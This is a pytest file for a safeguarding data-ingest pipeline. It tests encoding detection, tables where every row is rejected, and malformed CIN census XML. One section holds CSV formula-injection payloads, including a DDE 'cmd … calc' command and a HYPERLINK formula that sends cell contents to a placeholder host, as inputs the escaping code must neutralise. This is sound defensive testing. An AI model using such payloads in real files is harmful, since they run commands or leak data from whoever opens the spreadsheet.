"""Hostile and broken inputs (issue #12): wide encodings, tables with every row rejected, formula text in
the rejected-rows file, and CIN census files whose structure is wrong but well-formed.

Every census file here is written by the project's own synthetic generator (``safeguarding.synth``) and
then damaged in the test; nothing outside the repository is read.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest
import yaml

from safeguarding.config import load_config
from safeguarding.escape import unescape_markdown
from safeguarding.ingest import IngestError, cin_census, run_ingest
from safeguarding.ingest.cin_census import read_census
from safeguarding.synth import generate_council
from safeguarding.synth.cin_census import CIN_FILE


def _config(tmp_path: Path, inputs: dict, **extra) -> object:
    cfg = {"area": {"name": "Testshire"}, "year": 2025, "paths": {"processed": "out"},
           "pseudonymisation": {"key_file": str(tmp_path / "secret" / "pseudonym.key")}, "inputs": inputs, **extra}
    path = tmp_path / "report.yml"
    path.write_text(yaml.safe_dump(cfg), encoding="utf-8")
    return load_config(path)


def _write(tmp_path: Path, name: str, data: str | bytes, encoding: str = "utf-8") -> str:
    p = tmp_path / "raw" / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
    return f"raw/{name}"


def _entry(result, table: str) -> dict:
    return next(e for e in result.report["inputs"] if e["table"] == table)


def _rejected_rows(result) -> list[dict[str, str]]:
    with open(result.processed_dir / "ingest_rejected.csv", newline="", encoding="utf-8-sig") as f:
        return list(csv.DictReader(f))


def _accounted(e: dict) -> bool:
    return e["rows_read"] == e["rows_accepted"] + e["rows_rejected"]


REFERRALS = ("Referral ID,Child ID,Date of referral,Source,Primary need,Team\n"
             "R1,C1,01/02/2024,Schools,N1,Café – Nord\n"
             "R2,C2,15/03/2024,Police,N4,West\n"
             "R3,C3,2024-04-05,6,N1,East\n")


# ---- 1. UTF-16 / UTF-32 exports ----------------------------------------------------------------------------

@pytest.mark.parametrize(("codec", "bom"), [
    ("utf-16", b""),                  # Python writes the byte-order mark
    ("utf-16-le", b""),               # no byte-order mark: found from the NUL bytes
    ("utf-16-be", b""),
    ("utf-16-be", b"\xfe\xff"),
    ("utf-32", b""),
])
def test_utf16_and_utf32_exports_are_decoded_when_encoding_is_auto(tmp_path, codec, bom):
    cfg = _config(tmp_path, {"referrals": {"file": _write(tmp_path, "ref.csv", bom + REFERRALS.encode(codec))}})
    result = run_ingest(cfg)
    assert result.ok, result.failed
    e = _entry(result, "referrals")
    assert (e["rows_read"], e["rows_accepted"], e["rows_rejected"]) == (3, 3, 0)
    assert e["encoding"].startswith(codec[:6])
    assert e["column_mapping"]["referral_id"] == "Referral ID"
    df = pd.read_parquet(tmp_path / "out" / "referrals.parquet")
    assert df["team"].tolist() == ["Café – Nord", "West", "East"]


@pytest.mark.parametrize("setting", ["utf-8", "cp1252", "utf-8-sig"])
def test_utf16_export_read_with_a_narrow_encoding_fails_naming_the_setting(tmp_path, setting):
    cfg = _config(tmp_path, {"referrals": {"file": _write(tmp_path, "ref.csv", REFERRALS, "utf-16"),
                                           "encoding": setting},
                             "s47": {"file": _write(tmp_path, "s47.csv", "S47 ID,Child ID,S47 start date\n"
                                                                         "S1,C1,10/01/2024\n")}})
    result = run_ingest(cfg)
    assert result.built == ["s47"]
    msg = result.failed["referrals"]
    assert "ref.csv" in msg and "UTF-16" in msg
    assert "inputs.referrals.encoding: utf-16" in msg
    assert _entry(result, "referrals")["config_key"] == "inputs.referrals.encoding"
    assert not (tmp_path / "out" / "referrals.parquet").exists()


def test_encoding_setting_utf16_reads_the_file_and_refuses_a_utf8_one(tmp_path):
    cfg = _config(tmp_path, {"referrals": {"file": _write(tmp_path, "ref.csv", REFERRALS, "utf-16-le"),
                                           "encoding": "utf-16"}})
    result = run_ingest(cfg)
    assert result.ok, result.failed
    assert _entry(result, "referrals")["rows_accepted"] == 3
    cfg = _config(tmp_path, {"referrals": {"file": _write(tmp_path, "ref8.csv", REFERRALS), "encoding": "utf-16"}})
    result = run_ingest(cfg)
    assert "not UTF-16" in result.failed["referrals"] and "inputs.referrals.encoding" in result.failed["referrals"]


def test_byte_order_mark_alone_is_an_empty_file(tmp_path):
    result = run_ingest(_config(tmp_path, {"referrals": {"file": _write(tmp_path, "r.csv", b"\xff\xfe")}}))
    assert "empty" in result.failed["referrals"] and "r.csv" in result.failed["referrals"]


# ---- 1b. a file whose every row is rejected is a file-level error --------------------------------------------

def _all_rejected(tmp_path: Path, text: str, **spec) -> tuple[object, dict, str]:
    good = "S47 ID,Child ID,S47 start date\nS1,C1,10/01/2024\n"
    cfg = _config(tmp_path, {"referrals": {"file": _write(tmp_path, "ref.csv", text), **spec},
                             "s47": {"file": _write(tmp_path, "s47.csv", good)}})
    result = run_ingest(cfg)
    assert result.built == ["s47"] and not result.ok
    e = _entry(result, "referrals")
    assert e["status"] == "failed"
    assert _accounted(e) and e["rows_read"] > 0 and e["rows_accepted"] == 0
    assert result.report["tables_failed"] == ["referrals"]
    t = result.report["totals"]
    assert t["rows_read"] == t["rows_accepted"] + t["rows_rejected"]
    assert not (tmp_path / "out" / "referrals.parquet").exists()
    rows = [r for r in _rejected_rows(result) if r["table"] == "referrals"]
    assert len({r["row_number"] for r in rows}) == e["rows_rejected"]   # each rejected row is still listed
    msg = result.failed["referrals"]
    assert "ref.csv" in msg and f"all {e['rows_read']} rows" in msg and "Fix:" in msg
    md = unescape_markdown((result.processed_dir / "ingest_report.md").read_text()).replace("\u200b", "")  # as shown
    assert "Not built" in md
    return result, e, msg


def test_every_row_with_an_unknown_required_code_fails_the_table_naming_the_codes_setting(tmp_path):
    # issue #13 item 6: only a required coded column (here initial_category) can reject a row
    text = ("Plan ID,Child ID,Plan start date,Initial category\n"
            "P1,C1,01/02/2024,Martians\nP2,C2,01/02/2024,Venusians\nP3,C3,01/02/2024,Martians\n")
    result = run_ingest(_config(tmp_path, {"cp_plans": {"file": _write(tmp_path, "plans.csv", text)}}))
    e = _entry(result, "cp_plans")
    assert e["status"] == "failed" and _accounted(e)
    assert e["rows_read"] == 3 and e["rejected_by_reason"] == {"unknown_code": 3}
    msg = result.failed["cp_plans"]
    assert "'Initial category'" in msg and "inputs.cp_plans.codes.initial_category" in msg


def test_an_optional_column_with_no_known_code_keeps_every_row_and_names_the_settings(tmp_path):
    # referral_source is optional: the rows are kept (field unknown), and the warning names the mapping to check
    text = ("Referral ID,Child ID,Date of referral,Source\n"
            "R1,C1,01/02/2024,Martians\nR2,C2,01/02/2024,Venusians\nR3,C3,01/02/2024,Martians\n")
    result = run_ingest(_config(tmp_path, {"referrals": {"file": _write(tmp_path, "ref.csv", text)}}))
    assert result.ok, result.failed
    e = _entry(result, "referrals")
    assert (e["rows_read"], e["rows_accepted"], e["rows_rejected"], e["rows_kept_with_unknown"]) == (3, 3, 0, 3)
    assert any("none of the values in 'Source'" in w and "inputs.referrals.columns.referral_source" in w
               and "inputs.referrals.codes.referral_source" in w for w in e["warnings"])


def test_every_row_with_month_first_dates_fails_the_table_naming_the_date_format(tmp_path):
    text = ("Referral ID,Child ID,Date of referral\n"
            "R1,C1,12/31/2024\nR2,C2,01/13/2024\nR3,C3,02/28/2024\nR4,C4,03/15/2024\n")
    _, e, msg = _all_rejected(tmp_path, text, date_format="dayfirst")
    assert e["rows_read"] == 4
    assert "month" in msg and "inputs.referrals.date_format" in msg and "'Date of referral'" in msg


def test_every_row_with_a_blank_identifier_points_at_the_header_and_mapping(tmp_path):
    text = "Referral ID,Child ID,Date of referral\n,C1,01/02/2024\n,C2,02/02/2024\n"
    _, e, msg = _all_rejected(tmp_path, text)
    assert e["rejected_by_reason"] == {"blank_identifier": 2}
    assert "inputs.referrals.columns.referral_id" in msg and "inputs.referrals.header_row" in msg


def test_every_row_with_extra_values_points_at_the_delimiter(tmp_path):
    text = "Referral ID,Child ID,Date of referral\nR1,C1,01/02/2024,East, North\nR2,C2,02/02/2024,West, South\n"
    _, e, msg = _all_rejected(tmp_path, text)
    assert e["rejected_by_reason"] == {"extra_fields": 2}
    assert "delimiter" in msg or "quot" in msg


def test_every_date_out_of_range_points_at_the_range_settings(tmp_path):
    text = "Referral ID,Child ID,Date of referral\nR1,C1,01/02/1994\nR2,C2,02/02/1995\n"
    _, e, msg = _all_rejected(tmp_path, text)
    assert e["rejected_by_reason"] == {"date_out_of_range": 2}
    assert "ingest.min_date" in msg


def test_cli_exits_1_when_every_row_is_rejected(tmp_path):
    import subprocess
    import sys

    text = "Referral ID,Child ID,Date of referral,Source\nR1,C1,31/02/2024,Schools\n"
    cfg = _config(tmp_path, {"referrals": {"file": _write(tmp_path, "ref.csv", text)}})
    project = Path(__file__).resolve().parents[1]
    proc = subprocess.run([sys.executable, str(project / "pipeline.py"), "ingest", "--config", str(cfg.path)],
                          capture_output=True, text=True, cwd=tmp_path, timeout=120)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "NOT BUILT" in proc.stdout and "could not be built" in proc.stderr


# ---- 2. formula text in ingest_rejected.csv ------------------------------------------------------------------

@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://x.example","click")', '\'=HYPERLINK("http://x.example","click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-3", "-3"),
    ("-3.5", "-3.5"),
    ("+4", "+4"),
    ("-1e3", "-1e3"),
    ("plain", "plain"),
    ("", ""),
    ("'=already quoted", "'=already quoted"),
])
def test_excel_safe_quotes_formula_text_but_not_numbers(value, written):
    from safeguarding.ingest.report import excel_safe

    assert excel_safe(pd.Series([value], dtype=object)).tolist() == [written]


def test_rejected_csv_never_carries_a_live_formula(tmp_path):
    # a required coded column (sex): an unknown value there still rejects the row (issue #13 item 6)
    text = ('Child ID,Date of birth,=Gender\n'
            'C1,01/02/2014,"=HYPERLINK(""http://x.example/?""&A1,""click"")"\n'
            'C2,-3,F\n'
            'C3,01/02/2014,@SUM(A1:A9)\n'
            'C4,01/02/2014,+44 20 7946 0000\n'
            'C5,01/02/2014,M\n')
    cfg = _config(tmp_path, {"children": {"file": _write(tmp_path, "c.csv", text),
                                          "columns": {"sex": "=Gender"}}})
    result = run_ingest(cfg)
    assert result.ok, result.failed
    rows = _rejected_rows(result)
    by_row = {int(r["row_number"]): r for r in rows}
    assert by_row[2]["value"] == '\'=HYPERLINK("http://x.example/?"&A1,"click")'
    assert by_row[2]["column"] == "'=Gender"
    assert by_row[3]["value"] == "-3"                      # a plain negative number is left as it is
    assert by_row[4]["value"] == "'@SUM(A1:A9)"
    assert by_row[5]["value"] == "'+44 20 7946 0000"
    for r in rows:
        for cell in r.values():
            live = cell[:1] in ("=", "@", "\t", "\r") or (
                cell[:1] in ("+", "-") and not re.fullmatch(r"[+-]\d+(\.\d+)?", cell))
            assert not live, f"live formula text in ingest_rejected.csv: {cell!r}"


# ---- 3. CIN census files: wrong case, no records, namespaces, old headers -----------------------------------

@pytest.fixture(scope="module")
def census(tmp_path_factory) -> str:
    """A small synthetic census (the project's generator), cut to its first 12 children."""
    folder = tmp_path_factory.mktemp("census")
    generate_council(folder, seed=12, scale="small", years=1, fault_rate=0.0, fmt="cin_census")
    return cut_census((folder / CIN_FILE).read_text(encoding="utf-8"), 12)


def cut_census(text: str, children: int) -> str:
    """The census text with only its first ``children`` <Child> elements (still a well-formed census)."""
    lines = text.splitlines()
    ends = [i for i, line in enumerate(lines) if line.strip() == "</Child>"]
    keep = lines[: ends[children - 1] + 1] if len(ends) >= children else lines[:-2]
    return "\n".join([*keep, "  </Children>", "</Message>", ""])


def _census_file(tmp_path: Path, text: str, name: str = "census.xml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    cin_census.clear_cache()
    return path


def _census_config(tmp_path: Path, path: Path, tables=cin_census.ENTITIES) -> object:
    return _config(tmp_path, {t: {"file": str(path), "format": "cin_census"} for t in tables})


def test_generated_census_reads_without_warnings(tmp_path, census):
    result = run_ingest(_census_config(tmp_path, _census_file(tmp_path, census)))
    assert result.ok, result.failed
    assert _entry(result, "children")["rows_read"] == 12
    for e in result.report["inputs"]:
        assert not [w for w in e["warnings"] if "namespace" in w or "collection year" in w], e["warnings"]


def test_census_element_in_the_wrong_case_is_an_error_naming_line_and_spelling(tmp_path, census):
    text = census.replace("<CINdetails>", "<CINDetails>").replace("</CINdetails>", "</CINDetails>")
    line = next(i for i, t in enumerate(text.splitlines(), 1) if "<CINDetails>" in t)
    path = _census_file(tmp_path, text)
    with pytest.raises(IngestError) as info:
        read_census(path, "referrals", key="inputs.referrals")
    err = info.value
    assert err.row == line and err.file == str(path)
    assert f"line {line}" in str(err) and "<CINDetails>" in str(err) and "<CINdetails>" in str(err)
    result = run_ingest(_census_config(tmp_path, path))
    assert set(result.failed) == set(cin_census.ENTITIES)   # not 0 rows silently, for any table
    assert "<CINdetails>" in result.failed["referrals"]


@pytest.mark.parametrize(("name", "wrong"), [("Sex", "sex"), ("LAchildID", "LAChildID"), ("Message", "message"),
                                            ("Ethnicity", "ETHNICITY"), ("Children", "children")])
def test_any_known_element_in_the_wrong_case_is_named(tmp_path, census, name, wrong):
    text = census.replace(f"<{name}>", f"<{wrong}>", 1).replace(f"</{name}>", f"</{wrong}>", 1)
    line = next(i for i, t in enumerate(text.splitlines(), 1) if f"<{wrong}>" in t)
    with pytest.raises(IngestError, match=re.escape(f"<{name}>")) as info:
        read_census(_census_file(tmp_path, text), "children", key="inputs.children")
    assert info.value.row == line and f"<{wrong}>" in str(info.value)


@pytest.mark.parametrize("damage", ["empty", "renamed", "outside"])
def test_census_with_no_child_records_is_a_file_level_error(tmp_path, census, damage):
    if damage == "empty":
        head = census.split("<Children>")[0]
        text = head + "<Children>\n  </Children>\n</Message>\n"
    elif damage == "renamed":
        text = census.replace("<Children>", "<Pupils>").replace("</Children>", "</Pupils>")
    else:
        text = census.replace("<Children>", "<Children/><Extra>").replace("</Children>", "</Extra>")
    path = _census_file(tmp_path, text)
    with pytest.raises(IngestError, match="no <Child> records") as info:
        read_census(path, "children", key="inputs.children")
    assert str(path) in str(info.value) and info.value.fix
    result = run_ingest(_census_config(tmp_path, path, ("children", "referrals")))
    assert set(result.failed) == {"children", "referrals"}


def test_census_in_an_unexpected_namespace_is_read_with_a_warning(tmp_path, census):
    text = census.replace("<Message>", '<Message xmlns="http://example.org/not-the-dfe-census">', 1)
    result = run_ingest(_census_config(tmp_path, _census_file(tmp_path, text)))
    assert result.ok, result.failed
    for e in result.report["inputs"]:
        assert any("namespace" in w and "http://example.org/not-the-dfe-census" in w for w in e["warnings"]), e
    assert _entry(result, "children")["rows_read"] == 12
    md = unescape_markdown((result.processed_dir / "ingest_report.md").read_text()).replace("\u200b", "")  # as shown
    assert "not-the-dfe-census" in md


def test_census_with_prefixed_elements_is_read_with_a_warning(tmp_path, census):
    body = re.sub(r"<(/?)([A-Za-z])", r"<\1cin:\2", census.split("\n", 1)[1])
    body = body.replace("<cin:Message>", '<cin:Message xmlns:cin="urn:example:cin">', 1)
    path = _census_file(tmp_path, body)
    table = read_census(path, "children", key="inputs.children")
    assert table.n_rows == 12
    assert any("namespace" in w and "urn:example:cin" in w for w in table.warnings)


def test_schema_instance_namespace_alone_is_not_warned(tmp_path, census):
    text = census.replace("<Message>", '<Message xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                                       'xsi:noNamespaceSchemaLocation="CIN_schema_2026.xsd">', 1)
    table = read_census(_census_file(tmp_path, text), "children", key="inputs.children")
    assert not [w for w in table.warnings if "namespace" in w]


def test_census_with_a_2017_header_is_warned(tmp_path, census):
    text = re.sub(r"<Year>\d+</Year>", "<Year>2017</Year>", census, count=1)
    text = re.sub(r"<ReferenceDate>[^<]*</ReferenceDate>", "<ReferenceDate>2017-03-31</ReferenceDate>", text,
                  count=1)
    line = next(i for i, t in enumerate(text.splitlines(), 1) if "<Year>" in t)
    result = run_ingest(_census_config(tmp_path, _census_file(tmp_path, text)))
    assert result.ok, result.failed
    for e in result.report["inputs"]:
        old = [w for w in e["warnings"] if "2017" in w]
        assert old and f"line {line}" in old[0] and "collection year" in old[0], e["warnings"]


def test_census_header_year_that_is_not_a_year_is_warned(tmp_path, census):
    text = re.sub(r"<Year>\d+</Year>", "<Year>2017-18</Year>", census, count=1)
    table = read_census(_census_file(tmp_path, text), "children", key="inputs.children")
    assert any("2017-18" in w for w in table.warnings)
